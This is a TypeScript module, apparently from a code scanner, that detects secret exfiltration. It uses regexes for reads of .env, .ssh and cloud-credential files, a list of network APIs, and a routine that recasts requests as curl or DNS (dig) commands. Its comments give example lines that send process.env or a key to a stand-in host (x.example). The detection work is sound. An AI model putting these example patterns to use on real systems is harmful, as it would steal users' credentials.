import { takesAll } from '../../../programs/code/whole-environment.ts'

/** A call that reads, around the text of a private place: `open(os.path.expanduser('~/.ssh/id_rsa'))`. */
const reads =
  /\b(?:readFile(?:Sync)?|open|Path|File|read_text|read_bytes|read_to_string|fs(?:\.|::)read|ReadFile|File\.read|File\.binread|IO\.read|createReadStream|Bun\.file|file_get_contents|dotenv_values)\s?\(\s{0,8}(?:[\w.:]{1,40}!?\(\s{0,8}){0,2}[^()]{0,80}(?:\(\)[^()]{0,80}){0,2}["'`]([^"'`\n]{0,80}?\/)?(\.(?:env|ssh|aws|netrc|npmrc|pypirc|kube|gnupg|docker)\b[^"'`\n]{0,80})["'`]/g

/** The secrets that an expression takes itself: the environment, and files that are hidden because they are private. */
const takenIn = (text: string): readonly string[] => [
  ...(takesAll(text) ? ['/proc/self/environ'] : []),
  ...[...text.matchAll(reads)].map(([, folder = '', file = '']) => folder + file),
]

/** Names that hold such secrets: `const body = readFileSync('.env')`, `with open('.env') as f`, and what is made of them. */
const namesIn = (code: string): ReadonlyMap<string, readonly string[]> => {
  const found = new Map<string, readonly string[]>()
  for (const [all, name = ''] of code.matchAll(/\bopen\([^\n]{1,120}?\)\s{1,4}as\s{1,4}(\w{1,40})/g)) {
    const secrets = takenIn(all)
    if (secrets.length > 0) found.set(name, secrets)
  }
  for (const [, name = '', value = ''] of code.matchAll(
    /(?<![\w$.=!<>])([A-Za-z_$][\w$]{0,40})\s{0,4}=(?![=>])\s{0,4}([^;\n]{1,300})/g,
  )) {
    const words = found.size === 0 ? [] : (value.match(/[A-Za-z_$][\w$]*/g) ?? [])
    const secrets = [...takenIn(value), ...words.flatMap(word => found.get(word) ?? [])]
    if (secrets.length > 0) found.set(name, secrets)
  }
  return found
}

let last: { readonly code: string; readonly names: ReadonlyMap<string, readonly string[]> } | undefined

/** Secrets in the arguments of a request: `fetch(address, { body: JSON.stringify(process.env) })`, `post(address, data=text)`. */
export const carriedBy = (args: string, code: string): readonly string[] => {
  if (args === '') return []
  // A parameter of that name is the request of a server.
  if (/\bdef \w{1,60}\([^)\n]{0,200}\benviron\b/.test(code) && !/\bos\.environ\b/.test(args)) return []
  if (last?.code !== code) last = { code, names: namesIn(code) }
  const { names } = last
  const words =
    names.size === 0 ? [] : (args.replaceAll(/'[^'\n]*'|"[^"\n]*"/g, '').match(/[A-Za-z_$][\w$]*/g) ?? [])
  return [...new Set([...takenIn(args), ...words.flatMap(word => names.get(word) ?? [])])]
}

/** Whether code opens a way to another machine that what is written to it takes. */
export const connectsOut = (code: string): boolean =>
  /\bsocket\.(?:socket|create_connection)\(|\bHTTPS?Connection\(|\bhttps?\.request\(|\b(?:net|tls)\.(?:connect|createConnection)\(|\bdgram\.createSocket|\bnew WebSocket\(|\bTCPSocket\.|\bNet::HTTP\b|\bureq::|\breqwest::|\bTcpStream::connect|\bSMTP(?:_SSL)?\(|\bparamiko\b|\bftplib\b|\bnet\.Dial|\bopenConnection\(|\bHttpClient\b|\bOkHttpClient\b|\bHttpRequest\b|\bSocket\(|\bcurl_(?:init|setopt)\b|\bfsockopen\(/.test(
    code,
  )

const variable =
  /\bprocess\.env(?:\.|\[["'])(\w+)|\benviron(?:\.get\(|\[)\s{0,4}["'](\w+)|\bgetenv\(\s{0,4}["'](\w+)|\bENV(?:\.fetch\(|\[)\s{0,4}["'](\w+)/g

/** `get('https://x.example/?k=' + process.env.KEY)`: a request with values of variables in its address, as a command. */
export const addressedBy = (args: string): string | undefined => {
  const [address, ...more] = args.split(/,\s{0,8}(?=\{|\w+\s{0,4}=|\(|function\b|\w+\s{0,4}=>)/, 2)
  const [, from] = /["'`](https?:\/\/[^"'`${}\s]{1,200})/.exec(address ?? '') ?? []
  const names = [...(address ?? '').matchAll(variable)].map(found => found.slice(1).find(Boolean) ?? '')
  if (names.length === 0 || more.length > 1) return undefined
  const values = names.map(name => `\${${name}}`).join('')
  if (from !== undefined) return `curl "${from}${values}"`
  // The name of a machine that is looked up.
  const [, zone] = /["'`](\.[\w.-]{1,200}\.[a-z]{2,})["'`]/.exec(address ?? '') ?? []
  return zone === undefined ? undefined : `dig "${values}${zone}"`
}
